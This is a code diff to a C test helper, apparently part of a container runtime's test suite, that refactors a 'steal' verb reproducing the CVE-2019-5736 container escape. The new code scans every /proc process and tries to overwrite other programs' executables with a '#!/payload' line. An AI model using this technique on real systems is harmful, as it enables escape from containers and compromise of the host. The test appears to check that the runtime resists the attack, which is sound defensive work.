@@ -1,4 +1,6 @@
 /* SPDX-License-Identifier: Apache-2.0 */
+#include <ctype.h>
+#include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <netinet/in.h>
@@ -173,45 +175,56 @@ static int verb_memhog(int argc, char **argv)
 	return answer("memhog", 0);
 }
 
+/* Tries to write to the program of the process NAME of /proc, if it is another than OWN. */
+static void steal_from(const char *name, const struct stat *own, char result[64])
+{
+	struct stat other;
+	char path[64];
+	int held, fd = -1;
+
+	snprintf(path, sizeof(path), "/proc/%.20s/exe", name);
+	held = open(path, O_RDONLY | O_CLOEXEC);
+	if (held < 0)
+		return;
+	if (fstat(held, &other) < 0 || other.st_ino == own->st_ino) {
+		close(held);
+		return;
+	}
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
+	for (int i = 0; i < 2000; i++) {
+		fd = open(path, O_WRONLY | O_CLOEXEC);
+		if (fd >= 0 || errno != ETXTBSY)
+			break;
+		usleep(500);
+	}
+	snprintf(result, 64, "%s", fd < 0 ? strerrorname_np(errno) : "opened");
+	if (fd >= 0 && write(fd, "#!/payload\n", 11) == 11)
+		snprintf(result, 64, "overwritten");
+	close(fd);
+	close(held);
+}
+
 /*
  * CVE-2019-5736 from inside: holds every program that is not its own by /proc/PID/exe and, once
- * nobody executes it any more, opens it for writing.
+ * nobody executes it any more, opens it for writing. Only processes that are there are looked at: a
+ * program of nacre's may be there for microseconds.
  */
 static int verb_steal(int argc, char **argv)
 {
-	struct stat own, other;
-	char path[64], result[64] = "nothing seen";
+	char result[64] = "nothing seen";
 	time_t end = time(NULL) + atoi(argv[0]);
+	DIR *processes = opendir("/proc");
+	struct dirent *entry;
+	struct stat own;
 
 	(void)argc;
-	stat("/proc/self/exe", &own);
-	while (time(NULL) < end) {
-		for (int pid = 1; pid < 64; pid++) {
-			int held, fd;
-
-			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
-			held = open(path, O_RDONLY | O_CLOEXEC);
-			if (held < 0)
-				continue;
-			if (fstat(held, &other) < 0 || other.st_ino == own.st_ino) {
-				close(held);
-				continue;
-			}
-			snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
-			for (int i = 0; i < 2000; i++) {
-				fd = open(path, O_WRONLY | O_CLOEXEC);
-				if (fd >= 0 || errno != ETXTBSY)
-					break;
-				usleep(500);
-			}
-			snprintf(result, sizeof(result), "%s",
-				fd < 0 ? strerrorname_np(errno) : "opened");
-			if (fd >= 0 && write(fd, "#!/payload\n", 11) == 11)
-				snprintf(result, sizeof(result), "overwritten");
-			close(fd);
-			close(held);
-		}
-	}
+	if (!processes || stat("/proc/self/exe", &own) < 0)
+		return 1;
+	for (; time(NULL) < end; rewinddir(processes))
+		while ((entry = readdir(processes)))
+			if (isdigit((unsigned char)entry->d_name[0]))
+				steal_from(entry->d_name, &own, result);
+	closedir(processes);
 	printf("steal: %s\n", result);
 	return 0;
 }
